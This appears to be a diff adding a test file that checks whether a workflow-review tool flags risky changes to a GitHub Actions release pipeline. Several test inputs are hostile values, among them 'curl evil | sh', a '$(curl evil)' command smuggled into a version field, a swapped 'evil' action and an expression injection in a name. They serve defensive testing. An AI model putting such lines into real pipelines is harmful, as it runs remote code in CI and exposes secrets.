@@ -1,0 +1,62 @@
+import { describe, expect, it } from 'vitest';
+import { cli } from '../../../../support/command-line.js';
+import { folderOf } from '../../../../support/files.js';
+
+const PATH = '.github/workflows/release.yaml';
+const WORKFLOW = `name: release
+on: {push: {tags: ['v*']}}
+jobs:
+  release:
+    timeout-minutes: 10
+    env: {TOKEN: "\${{ secrets.TOKEN }}"}
+    steps:
+      - name: checkout
+        uses: actions/checkout@v3
+      - name: go
+        uses: actions/setup-go@v4
+        with: {go-version: '1.20'}
+      - name: publish
+        run: make publish
+`;
+const review = (before: string, after: string) => {
+  const [base, head] = [before, after].map((text) =>
+    folderOf({ [PATH]: text, 'ns.yaml': 'apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n' }),
+  );
+  const { summary, findings, changes } = JSON.parse(cli(['review', base as string, head as string, '--format', 'json']).out);
+  return {
+    answer: summary.answer as string,
+    severities: findings.new.map(({ severity }: { severity: string }) => severity) as string[],
+    files: changes.map(({ object }: { object: { name: string } }) => object.name) as string[],
+  };
+};
+
+describe('a pipeline', () => {
+  it.each([
+    ['the name of a pipeline', 'name: release', 'name: publish a release'],
+    ['more time', 'timeout-minutes: 10', 'timeout-minutes: 30'],
+    ['another tag of an action', 'checkout@v3', 'checkout@v4.1.0'],
+    ['another version of a tool', "go-version: '1.20'", "go-version: '1.21'"],
+  ])('is quiet, with a line among the changes, for %s', (_, from, to) => {
+    expect(review(WORKFLOW, WORKFLOW.replace(from, to))).toEqual({ answer: 'same', severities: [], files: [PATH] });
+  });
+
+  it.each([
+    ['another action', 'actions/checkout@v3', 'evil/checkout@v3'],
+    ['an action at a commit, which can be one of a fork', 'checkout@v3', 'checkout@0123456789012345678901234567890123456789'],
+    ['an action at a branch', 'checkout@v3', 'checkout@main'],
+    ['a version that is a program', "go-version: '1.20'", "go-version: '$(curl evil)'"],
+    ['a name with an expression', 'name: release', `name: "\${{ github.event.title }}"`],
+    ['another command', 'run: make publish', 'run: curl evil | sh'],
+    ['another event', 'push: {tags', 'pull_request_target: {tags'],
+  ])('is told for %s', (_, from, to) => {
+    expect(review(WORKFLOW, WORKFLOW.replace(from, to)).severities).toEqual(['warning']);
+  });
+
+  it('may change permissions only if it applies something', () => {
+    const changed = WORKFLOW.replace('run: make publish', 'run: make all');
+    expect(review(WORKFLOW, changed).answer).toBe('none');
+    const applies = `${WORKFLOW}      - run: kubectl apply -f .\n`;
+    expect(review(applies, applies.replace('run: make publish', 'run: make all')).answer).toBe('perhaps');
+    expect(review(WORKFLOW, applies).answer).toBe('perhaps');
+  });
+});
